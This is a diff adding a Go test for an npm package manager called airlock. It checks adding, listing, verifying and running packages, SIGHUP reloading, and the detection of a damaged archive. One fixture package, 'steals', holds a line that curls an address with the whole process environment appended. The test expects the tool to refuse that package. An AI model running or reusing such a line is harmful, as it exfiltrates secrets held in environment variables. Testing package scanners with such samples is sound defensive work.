@@ -1,0 +1,123 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/airlock-run/airlock/infra/packages/registrytest"
+)
+
+// Packages are added from a registry to an empty folder. From then on nothing needs the registry: list, verify, run and
+// a gateway, which takes a change of the folder at SIGHUP, and none of a damaged folder.
+func TestNpmPackages(t *testing.T) {
+	t.Parallel()
+	r := registrytest.New(t)
+	r.Publish(t, "lodash", "4.17.21", "package.json", `{"name":"lodash","main":"lodash.js"}`, "lodash.js",
+		"exports.chunk = (list, n) => list.length ? [list.slice(0, n), ...exports.chunk(list.slice(n), n)] : []")
+	r.Publish(t, "lodash", "5.0.0", "index.js", "throw new Error('nobody asked for it')")
+	r.Publish(t, "draws", "1.0.0", "index.js", "exports.n = Math.random()")
+	r.Publish(t, "steals", "1.0.0", "index.js",
+		"require('child_process').execSync('curl http://169.254.169.254/?' + JSON.stringify(process.env))")
+	dir := t.TempDir()
+	folder := filepath.Join(dir, "airlock-packages")
+	environment := []string{"AIRLOCK_TEST_AS_PROGRAM=1", "AIRLOCK_CACHE_DIR=" + filepath.Join(dir, "cache"),
+		"npm_config_registry=" + r.URL, "HOME=" + dir}
+	airlock := func(arguments ...string) (string, error) {
+		cmd := exec.CommandContext(t.Context(), os.Args[0], arguments...)
+		cmd.Dir, cmd.Env = dir, environment
+		out, err := cmd.CombinedOutput()
+		return string(out), err
+	}
+	want := func(text string, arguments ...string) {
+		t.Helper()
+		out, err := airlock(arguments...)
+		if err != nil || !strings.Contains(out, text) {
+			t.Fatalf("airlock %s: %v\n%s\nwant %s", strings.Join(arguments, " "), err, out, text)
+		}
+	}
+	want("there are no packages", "packages", "list")
+	out, err := airlock("packages", "add", "steals")
+	if err == nil || !strings.Contains(out, "package steals is refused") {
+		t.Errorf("%v %s", err, out)
+	}
+	if _, err := os.Stat(folder); err == nil {
+		t.Error("a refused package left a folder")
+	}
+	const listed = "lodash@4.17.21  scan safe  runs start after it\n"
+	want(listed, "packages", "add", "lodash@4", "draws")
+	r.Close()
+	want(listed, "packages", "list")
+	want("draws@1.0.0  scan safe  each run evaluates it: it draws random numbers while it loads", "packages", "list")
+	want("ok: 2 packages", "packages", "verify")
+	want(listed, "packages", "prepare")
+	want("2\n", "run", "-e", `import _ from "lodash"; _.chunk([1, 2, 3], 2).length`)
+
+	p := startCommand(t, dir, exec.Command(os.Args[0], "serve"), append(environment, "PORT=0", "FUNCTION_PROCESSES=1",
+		"RATE_LIMIT_MAX_REQUESTS=100000"))
+	const run = `{"code":"import _ from 'lodash'; _.chunk([1, 2, 3], 2)[1][0]"}`
+	result := func(code string) any {
+		_, v := p.post(t.Context(), t, "/api/execute", code)
+		return v["result"]
+	}
+	if got := result(run); got != 3.0 {
+		t.Fatalf("the gateway ran it to %v", got)
+	}
+	names := func() (all []string) {
+		var list struct {
+			Items []struct {
+				Name, Version string
+				Tiers         []string
+				Image         bool
+				Why           string
+			}
+		}
+		if err := json.Unmarshal([]byte(fetch(t, p.url+"/api/packages")), &list); err != nil {
+			t.Fatal(err)
+		}
+		for _, p := range list.Items {
+			all = append(all, p.Name+"@"+p.Version)
+			if p.Image == (p.Why != "") || len(p.Tiers) != 3 {
+				t.Errorf("%+v", p)
+			}
+		}
+		return all
+	}
+	if got := strings.Join(names(), " "); got != "draws@1.0.0 lodash@4.17.21" {
+		t.Errorf("packages %s", got)
+	}
+
+	again := registrytest.New(t)
+	again.Publish(t, "later", "1.0.0", "index.js", "module.exports = 7")
+	environment[2] = "npm_config_registry=" + again.URL
+	want("later@1.0.0", "packages", "add", "later")
+	want("later@1.0.0", "packages", "remove", "draws")
+	hangUp := func() {
+		t.Helper()
+		if err := p.Process.Signal(syscall.SIGHUP); err != nil {
+			t.Fatal(err)
+		}
+	}
+	hangUp()
+	until(t, "the new package in the list", func() bool {
+		return strings.Join(names(), " ") == "later@1.0.0 lodash@4.17.21"
+	})
+	until(t, "the new package in a function process", func() bool {
+		return result(`{"code":"import l from 'later'; l"}`) == 7.0
+	})
+	archive := filepath.Join(folder, "archives", "later@1.0.0.tgz")
+	if err := os.WriteFile(archive, []byte("damaged"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	hangUp()
+	if got := result(run); got != 3.0 || len(names()) != 2 {
+		t.Errorf("a damaged folder changed the gateway: %v", got)
+	}
+	if out, err := airlock("packages", "verify"); err == nil || !strings.Contains(out, "its SHA-512 differs") {
+		t.Errorf("%v %s", err, out)
+	}
+}
